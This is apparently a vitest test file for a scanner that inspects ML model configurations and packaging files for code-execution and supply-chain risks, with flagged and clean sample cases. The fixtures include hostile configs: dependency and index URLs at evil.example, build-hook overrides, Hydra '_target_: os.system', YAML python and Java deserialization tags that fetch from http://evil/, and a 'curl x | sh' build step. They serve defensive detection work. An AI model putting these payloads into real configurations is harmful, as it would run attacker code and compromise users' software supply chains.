import { expect, test } from 'vitest';
import { scanFiles } from '../../../../core/verification/scan.ts';
import { json } from '../configurations.ts';
import { fileOf } from '../samples.ts';

/** Configurations in every language that they are written in, by those who load models. */
test.each<[string, string, string]>([
  [
    'config.pbtxt',
    'config-remote-code',
    'name: "m"\nbackend: "python"\nmax_batch_size: 8\ninput [\n  {\n    name: "IN"\n    data_type: TYPE_FP32\n    dims: [ 4 ]\n  }\n]\noutput [ { name: "OUT" data_type: TYPE_FP32 dims: [ 1 ] } ]\n',
  ],
  [
    'config.pbtxt py2',
    'config-remote-code',
    "# c\nbackend: 'pyth' 'on'\ninput [ { name: \"a\" data_type: TYPE_FP32 dims: [1] } ]\n",
  ],
  [
    'config.pbtxt custom',
    'config-remote-code',
    'name: "m"\nbackend: "mybackend"\ninput { name: "a" data_type: TYPE_FP32 dims: [1] }\n',
  ],
  [
    'config.pbtxt path',
    'config-path',
    'name: "m"\nplatform: "onnxruntime_onnx"\ndefault_model_filename: "../../etc/x.onnx"\ninput { name: "a" data_type: TYPE_FP32 dims: [1] }\n',
  ],
  [
    'config.pbtxt env',
    'config-remote-code',
    'name: "m"\nbackend: "onnxruntime"\nparameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "/tmp/x.tar.gz" } }\n',
  ],
  ['config.pbtxt one line', 'config-remote-code', 'name:"m",backend:"python";max_batch_size:8'],
  [
    'config.pbtxt escapes',
    'config-remote-code',
    'name: "m" backend: "\\160ython" max_batch_size: 8 input { name: "a" }',
  ],
  [
    'config.pbtxt warm',
    'config-path',
    'name: "m"\nbackend: "onnxruntime"\nmodel_warmup [ { name: "a" batch_size: 1 inputs { key: "x" value: { data_type: TYPE_FP32 dims: [1] input_data_file: "../../x" } } } ]\n',
  ],
  [
    'pyproject url',
    'requirements-source',
    '[project]\nname = "m"\nversion = "1"\ndependencies = ["numpy==2.0", "evil @ https://evil.example/e.whl"]\n',
  ],
  [
    'pyproject git',
    'requirements-source',
    '[tool.poetry.dependencies]\npython = "^3.10"\nevil = { git = "https://evil.example/e.git" }\n',
  ],
  ['pyproject path', 'requirements-source', '[tool.poetry.dependencies]\nevil = {path = "../evil", develop = true}\n'],
  ['pyproject index', 'requirements-source', '[[tool.uv.index]]\nname = "x"\nurl = "https://evil.example/simple"\n'],
  [
    'pyproject uv sources',
    'requirements-source',
    '[project]\nname="m"\ndependencies=["a"]\n[tool.uv.sources]\na = { url = "https://evil.example/a.whl" }\n',
  ],
  [
    'pyproject backend',
    'package-build',
    '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
  ],
  [
    'pyproject backend custom',
    'package-build',
    '[build-system]\nrequires = ["evilbackend"]\nbuild-backend = "evilbackend.api"\n',
  ],
  [
    'pyproject cmdclass',
    'package-build',
    '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[tool.setuptools.cmdclass]\nbuild_py = "evil.Build"\n',
  ],
  [
    'pyproject hatch hook',
    'package-build',
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\npath = "x.py"\n',
  ],
  [
    'pyproject poetry script',
    'package-build',
    '[tool.poetry.build]\nscript = "build.py"\n[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n',
  ],
  [
    'setup.cfg url',
    'requirements-source',
    '[metadata]\nname = m\nversion = 1\n[options]\ninstall_requires =\n    numpy\n    evil @ https://evil.example/e.whl\n',
  ],
  [
    'setup.cfg links',
    'requirements-source',
    '[metadata]\nname = m\n[options]\ndependency_links =\n  https://evil.example/e.whl\n',
  ],
  ['setup.cfg cmdclass', 'package-build', '[metadata]\nname = m\n[options]\ncmdclass =\n  build_py = evil.Build\n'],
  [
    'Pipfile url',
    'requirements-source',
    '[[source]]\nurl = "https://evil.example/simple"\nverify_ssl = true\nname = "pypi"\n[packages]\nnumpy = "*"\n',
  ],
  ['Pipfile git', 'requirements-source', '[packages]\nevil = {git = "https://evil.example/x.git"}\n'],
  ['Pipfile path', 'requirements-source', '[packages]\nevil = {path = ".", editable = true}\n'],
  [
    'environment.yml channel url',
    'requirements-source',
    'name: x\nchannels:\n- https://evil.example/conda\ndependencies:\n- python=3.10\n',
  ],
  [
    'environment.yml pip url',
    'requirements-source',
    'name: x\ndependencies:\n- pip:\n  - --index-url https://evil.example\n  - a\n',
  ],
  [
    'environment.yml pkg url',
    'requirements-source',
    'name: x\nchannels: [conda-forge]\ndependencies:\n- https://evil.example/a.tar.bz2\n',
  ],
  [
    'environment.yml channel::',
    'requirements-source',
    'name: x\nchannels: [conda-forge]\ndependencies:\n- https://evil.example/c::numpy=1\n',
  ],
  ['conda explicit', 'requirements-source', '@EXPLICIT\nhttps://evil.example/a.conda\n'],
  ['pip.conf', 'requirements-source', '[global]\nindex-url = https://evil.example/simple\n'],
  ['uv.toml', 'requirements-source', 'index-url = "https://evil.example/simple"\n'],
  ['reqs env var', 'requirements-source', '--extra-index-url https://${TOKEN}@evil.example/simple\nnumpy\n'],
  ['reqs arrow', 'requirements-source', 'numpy===1.0\n-e ./local\n'],
  ['reqs config', 'requirements-source', 'numpy\n--config-settings x=y\n--extra-index-url https://evil\n'],
  ['reqs hash git', 'requirements-source', 'svn+https://x/y#egg=z\n'],
  ['reqs BOM', 'requirements-source', '\ufeff-i https://evil.example\nnumpy\n'],
  ['reqs file url', 'requirements-source', 'numpy==1\nfile:///tmp/x.whl\n'],
  [
    'config.cfg custom',
    'config-import',
    '[nlp]\nlang = "en"\n[components.ner.model]\n@architectures = "evil.Model.v1"\n',
  ],
  ['config.cfg cb', 'config-import', '[nlp]\nlang = "en"\nbefore_creation = {"@callbacks":"evil"}\n'],
  ['config.cfg init', 'config-import', '[initialize.before_init]\n@callbacks = "evil_cb"\n'],
  ['config.cfg factory', 'config-import', '[nlp]\nlang="en"\n[components.x]\nfactory = "evil_factory"\n'],
  ['config.cfg source', 'config-import', '[nlp]\nlang="en"\n[components.x]\nsource = "evil_package"\n'],
  ['hydra', 'config-import', 'model:\n  _target_: os.system\n  _args_: [id]\n'],
  ['hydra partial', 'config-import', 'x: {_target_: evil.mod.fn, _partial_: true}\n'],
  [
    'nemo',
    'config-import',
    'target: nemo.collections.asr.models.EncDecCTC\ncfg: 1\n'.replace('nemo.collections', 'evil.collections') +
      'params: {}\n',
  ],
  ['nemo evil via nemo', 'config-import', 'preprocessor:\n  _target_: nemo.utils.os.system\n'],
  ['nemo target only', 'config-import', 'sample_rate: 16000\ntarget: evil.models.Model\n'],
  ['speechbrain new', 'yaml-python-tag', 'model: !new:evil.Model\n  a: 1\n'],
  ['speechbrain include', 'yaml-python-tag', 'a: !include:../../x.yaml\n'],
  ['yaml env tag', 'yaml-python-tag', 'a: !ENV ${X}\n'],
  ['yaml unknown tag', 'yaml-python-tag', 'a: !evil {x: 1}\n'],
  ['yaml unknown local uri tag', 'yaml-python-tag', 'a: !<tag:evil.example,2020:x> {x: 1}\n'],
  ['yaml ruby', 'yaml-python-tag', 'a: !ruby/object:Gem::Installer\n  i: x\n'],
  [
    'yaml java',
    'yaml-python-tag',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]\n',
  ],
  [
    'lazyconfig yaml',
    'config-import',
    'model:\n  _target_: detectron2.modeling.GeneralizedRCNN\n  x:\n    _target_: evil.run\n',
  ],
  ['generic class args', 'config-import', json({ model: { class: 'evil.models.Net', args: { a: 1 } } })],
  ['generic type kwargs', 'config-import', json({ backbone: { type: 'evil.models:Net', kwargs: {} } })],
  ['generic callable', 'config-import', json({ hook: { callable: 'os.system', args: ['id'] } })],
  ['generic module name', 'config-import', json({ module: 'evil.mod', function: 'run', args: [] })],
  ['generic os.system any key', 'config-import', json({ post_process: 'os.system' })],
  ['generic subprocess', 'config-import', 'on_load: subprocess.Popen\n'],
  ['generic logging ()', 'config-import', json({ version: 1, handlers: { a: { '()': 'evil.Handler' } } })],
  [
    'logging class',
    'config-import',
    'version: 1\nhandlers:\n  a:\n    class: evil.Handler\n    level: DEBUG\nformatters: {}\n',
  ],
  ['peft base path abs', 'config-path', json({ peft_type: 'LORA', base_model_name_or_path: '/etc/evil' })],
  ['peft base path ..', 'config-path', json({ peft_type: 'LORA', base_model_name_or_path: '../../evil' })],
  ['architectures odd', 'config-remote-code', json({ architectures: ['../evil.Model'] })],
  ['preproc image_processor', 'config-remote-code', json({ image_processor_type: 'evil.Proc' })],
  ['video proc', 'config-remote-code', json({ video_processor_type: 'evil.Proc' })],
  ['slow_tokenizer_class', 'config-remote-code', json({ slow_tokenizer_class: 'evil/x.Tok' })],
  [
    'diffusers no version',
    'config-remote-code',
    json({ _class_name: 'StableDiffusionPipeline', unet: ['evil_mod', 'U'], vae: ['diffusers', 'V'] }),
  ],
  ['diffusers class file', 'config-remote-code', json({ _class_name: ['my_pipeline', 'P'], unet: ['diffusers', 'U'] })],
  ['modules kwargs', 'config-import', json([{ idx: 0, name: '0', path: '', type: 'torch.hub.load' }])],
  ['mlflow no flavors key loader', 'mlflow-code', 'loader_module: evil\n'],
  [
    'mlproject',
    'config-remote-code',
    'name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      a: {type: float}\n    command: "python train.py {a}"\n',
  ],
  [
    'mar service envelope',
    'config-import',
    json({ model: { modelName: 'm', handler: 'image_classifier', serviceEnvelope: 'evil' } }),
  ],
  [
    'pyspark metadata',
    'config-import',
    json({ class: 'evil.mod.Cls', timestamp: 1, sparkVersion: '3.5', uid: 'x_1', paramMap: {} }),
  ],
  ['gym spec', 'config-import', json({ id: 'Evil-v0', entry_point: 'evil.mod:Env', kwargs: {} })],
  [
    'ludwig',
    'config-import',
    'input_features:\n- name: a\n  type: number\noutput_features: []\ncustom_model: evil.mod\nbackend:\n  type: local\n',
  ],
  [
    'mmdet cfg json',
    'config-import',
    json({ custom_imports: { imports: ['evil.mod'], allow_failed_imports: false }, model: { type: 'FasterRCNN' } }),
  ],
  ['mmdet yaml', 'config-import', 'custom_imports:\n  imports: [evil]\nmodel:\n  type: X\n'],
  ['fairseq user_dir', 'config-import', 'common:\n  user_dir: /tmp/evil\ntask: {_name: translation}\n'],
  ['bentoml', 'config-import', 'service: "service:svc"\ninclude: ["*.py"]\npython:\n  packages: [a]\n'],
  ['mlserver custom', 'config-import', json({ name: 'm', implementation: 'evil.runtime.Model' })],
  [
    'cog',
    'config-import',
    'build:\n  python_version: "3.10"\n  run: ["curl x | sh"]\npredict: "predict.py:Predictor"\n',
  ],
  ['allennlp', 'config-import', json({ model: { type: 'evil.mod.Model' }, include_package: 'evil' })],
  ['yaml multi doc', 'config-import', 'a: 1\n---\n_target_: os.system\n'],
  ['yaml multi doc tag', 'yaml-python-tag', 'a: 1\n---\nb: !!python/object/apply:os.system [id]\n'],
  ['yaml CRLF', 'config-import', 'a: 1\r\n_target_: os.system\r\n'],
  ['json lines', 'config-import', '{"a":1}\n{"_target_":"os.system"}\n'],
  ['json5 comments', 'config-import', '// c\n{"_target_": "os.system", /* x */ }\n'],
  ['json trailing comma', 'config-import', '{"_target_": "os.system",}\n'],
  ['yaml block key', 'config-import', '? _target_\n: os.system\n'],
  ['yaml key quoted split', 'config-import', '"_tar\\\n  get_": os.system\n'],
])('%s is a finding: %s', (_, rule, content) => {
  expect(scanFiles([fileOf('file', content)]).findings.map((finding) => finding.rule)).toContain(rule);
});

test.each<[string, string]>([
  [
    'config.pbtxt ok',
    'name: "m"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\ninput [\n  {\n    name: "IN"\n    data_type: TYPE_FP32\n    dims: [ 4 ]\n  }\n]\noutput [ { name: "OUT" data_type: TYPE_FP32 dims: [ 1 ] } ]\ninstance_group [ { kind: KIND_GPU count: 1 gpus: [0] } ]\ndynamic_batching { preferred_batch_size: [ 4, 8 ] }\n',
  ],
  ['config.pbtxt ok2', 'backend: "tensorrt"\nmax_batch_size: 8\ndefault_model_filename: "model.plan"\n'],
  [
    'config.pbtxt ensemble',
    'name: "e"\nplatform: "ensemble"\nensemble_scheduling { step [ { model_name: "a" model_version: -1 input_map { key: "x" value: "y" } } ] }\n',
  ],
  [
    'pyproject ok',
    '[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "m"\nversion = "1"\ndependencies = [\n  "numpy==2.0",\n  "scikit-learn>=1.5; python_version < \'3.13\'",\n]\n[project.urls]\nhomepage = "https://example.org"\n[tool.ruff]\nline-length = 100\n',
  ],
  [
    'pyproject ok2',
    '[tool.poetry]\nname = "m"\nhomepage = "https://example.org"\n[tool.poetry.dependencies]\npython = "^3.10"\ntorch = { version = "^2.0", extras = ["a"] }\n',
  ],
  [
    'setup.cfg ok',
    '[metadata]\nname = m\nversion = 1\n[options]\npackages = find:\ninstall_requires =\n    numpy==2.0\n[flake8]\nmax-line-length = 100\n',
  ],
  [
    'Pipfile ok',
    '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n[packages]\nnumpy = "==2.0"\n\n[dev-packages]\n\n[requires]\npython_version = "3.12"\n',
  ],
  [
    'environment.yml own channel',
    'name: x\nchannels: [conda-forge, nvidia]\ndependencies:\n- nvidia::cuda-toolkit=12\n- python=3.10\n- _libgcc_mutex=0.1=main\n',
  ],
  [
    'environment.yml ok',
    'name: x\nchannels:\n- conda-forge\n- nodefaults\ndependencies:\n- python=3.10\n- pytorch::pytorch=2\n- pip\n- pip:\n  - numpy==2\n',
  ],
  [
    'config.cfg ok',
    '[paths]\ntrain = null\n[nlp]\nlang = "en"\npipeline = ["tok2vec","ner"]\nbefore_creation = null\ntokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}\n[components]\n[components.ner]\nfactory = "ner"\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n[training.optimizer]\n@optimizers = "Adam.v1"\n[corpora.train]\n@readers = "spacy.Corpus.v1"\npath = ${paths.train}\n[corpora.dev]\n@readers = "spacy.Corpus.v1"\npath = ${paths.dev}\n[initialize]\nbefore_init = null\n',
  ],
  [
    'nemo real target',
    'sample_rate: 16000\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  normalize: per_feature\ntarget: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\n',
  ],
  ['speechbrain ref', 'a: 1\nb: !ref <a>\nc: !copy <a>\nd: !PLACEHOLDER\n'],
  ['yaml ok tags', 'a: !!str 1\nb: !!float 2\nc: !!set {x}\nd: !!binary aGVsbG8=\ne: !!python/tuple [1]\n'],
  ['md prose !', '# Title\n\nImportant: !!! read this. Note !new things.\n'],
  ['md prose tags', 'Note: this model is great!\nWarning: !important\n'],
  ['logging ok', 'version: 1\nhandlers:\n  a:\n    class: logging.StreamHandler\n    level: DEBUG\nformatters: {}\n'],
  [
    'event type data',
    json([
      { type: 'user.created', id: 1 },
      { type: 'user.login', handler: 'app.index' },
    ]),
  ],
  [
    'dtype',
    json({ torch_dtype: 'torch.float16', module: 'encoder.layers', target_modules: ['model.layers.0.q_proj'] }),
  ],
  ['data text', json([{ text: 'use os.system to run', label: 1 }])],
  ['peft base ok', json({ peft_type: 'LORA', base_model_name_or_path: 'org/model', auto_mapping: null })],
  ['name_or_path local cache', json({ model_type: 'llama', _name_or_path: '/home/me/.cache/model' })],
  ['model_type custom', json({ model_type: 'mynet', architectures: ['MyNet'] })],
  ['quantization', json({ quantization_config: { quant_method: 'gptq', bits: 4 } })],
  [
    'timm',
    json({ architecture: 'resnet50', num_classes: 10, pretrained_cfg: { tag: 'x', custom_load: false, url: '' } }),
  ],
  ['timm custom', json({ architecture: 'resnet50', pretrained_cfg: { hf_hub_id: 'timm/x', input_size: [3, 1, 1] } })],
  [
    'tokenizer.json normal',
    json({
      version: '1.0',
      model: { type: 'BPE', vocab: { 'os.path': 1, 'os.system': 2 }, merges: [] },
      pre_tokenizer: { type: 'ByteLevel' },
    }),
  ],
  ['dvc.yaml', 'stages:\n  train:\n    cmd: python train.py\n    deps: [a]\n    outs: [m]\n'],
  [
    'pyspark ok',
    json({
      class: 'org.apache.spark.ml.PipelineModel',
      timestamp: 1,
      sparkVersion: '3.5',
      uid: 'x_1',
      paramMap: { stageUids: [] },
    }),
  ],
  [
    'pyspark python ok',
    json({ class: 'pyspark.ml.pipeline.PipelineModel', timestamp: 1, sparkVersion: '3.5', uid: 'x_1', paramMap: {} }),
  ],
  [
    'ludwig ok',
    'input_features:\n- name: a\n  type: number\noutput_features:\n- name: b\n  type: category\ntrainer: {epochs: 3}\n',
  ],
  [
    'kserve/seldon',
    json({ name: 'm', implementation: 'mlserver_sklearn.SKLearnModel', parameters: { uri: './m.joblib' } }),
  ],
  ['openai evals', json({ class: 'cat', label: 'dog.brown' })],
  ['documentation with words behind an at sign', '[a]\n@param {number} size = 1\n@media (x) = {\n'],
  ['a list of files', json({ files: ['index.js', 'posix.js'], main: 'os.toml' })],
  ['entry points of a package', '[console_scripts]\nf2py = numpy.f2py.f2py2e:main\n'],
])('%s is clean', (_, content) => {
  expect(scanFiles([fileOf('file', content)])).toMatchObject({ verdict: 'clean', findings: [] });
});

test.each<[string, string]>([
  ['lines without a key', `[a]\na${' '.repeat(300_000)}`],
  ['nothing but lines', `[a]\n${'\n'.repeat(300_000)}`],
  ['comments of protobuf', `backend: ${'#   \n'.repeat(60_000)}!`],
  ['lists without an end', `[a]\n${'k = [\n'.repeat(60_000)}`],
  ['texts without an end', `[a]\n${'k = """\n'.repeat(60_000)}`],
])('no form of text takes time without end: %s', (_, content) => {
  expect(scanFiles([fileOf('file', content)]).files).toHaveLength(1);
});
